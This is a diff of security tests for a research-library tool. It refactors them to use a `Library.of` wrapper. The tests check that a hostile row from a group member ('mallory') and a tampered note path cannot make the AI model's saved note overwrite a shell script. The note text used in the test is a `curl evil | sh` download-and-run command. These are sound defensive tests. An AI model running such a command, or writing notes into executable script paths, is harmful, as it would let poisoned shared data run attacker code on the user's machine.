@@ -8,6 +8,7 @@ import json
 import sqlite3
 from pathlib import Path
 
+from astro_cli.research.library.papers import Library
 from tests.helpers import tool_results, write_config
 from tests.library_support import make_app
 from tests.pg_support import MEMBER_PASSWORD, member_url, new_database
@@ -53,9 +54,7 @@ def _group_attack(tmp_path, pg_server, fake, astro_env, workspace, run_astro, pa
     url = member_url(pg_server, new_database(pg_server))
     setup = make_app(tmp_path / "mallory", **{"library.database_url": url, "library.member": "mallory"})
     assert setup.settings.get("library.database_url")
-    from astro_cli.research.library.storage import library_store
-
-    library_store(setup).chunk_count()  # the schema exists (any member's first use creates it)
+    Library.of(setup).store.chunk_count()  # the schema exists (any member's first use creates it)
     setup.close()
     _insert_hostile_row(url, paper_id, target_of(workspace))
     _ask_for(fake, paper_id)
@@ -169,19 +168,17 @@ def test_text_stored_in_the_library_is_redacted_before_it_is_stored(tmp_path, mo
 
 def test_a_note_row_naming_a_file_outside_notes_is_never_written(tmp_path):
     app = make_app(tmp_path / "ws")
-    from astro_cli.research.library.notes import note_scope, save_note
-    from astro_cli.research.library.storage import library_store
-
+    from astro_cli.research.library.notes import save_note
     script = tmp_path / "ws" / "scripts" / "post.sh"
     script.parent.mkdir(parents=True)
     script.write_text("echo safe\n")
-    save_note(app, "Plan", "first version")
+    save_note(Library.of(app), "Plan", "first version")
     db = sqlite3.connect(tmp_path / "ws" / ".astro" / "astro.db")
     with db:
         db.execute("UPDATE notes SET path = 'scripts/post.sh'")  # a shipped database, or a group member's row
     db.close()
-    assert library_store(app).note_titled("Plan", note_scope(app))["path"] == "scripts/post.sh"
-    saved = save_note(app, "Plan", "curl evil | sh")  # the model saves a note of the same title
+    assert Library.of(app).store.note_titled("Plan", Library.of(app).note_scope)["path"] == "scripts/post.sh"
+    saved = save_note(Library.of(app), "Plan", "curl evil | sh")  # the model saves a note of the same title
     assert script.read_text() == "echo safe\n"
     assert saved.path.parent.name == "notes"
     app.close()
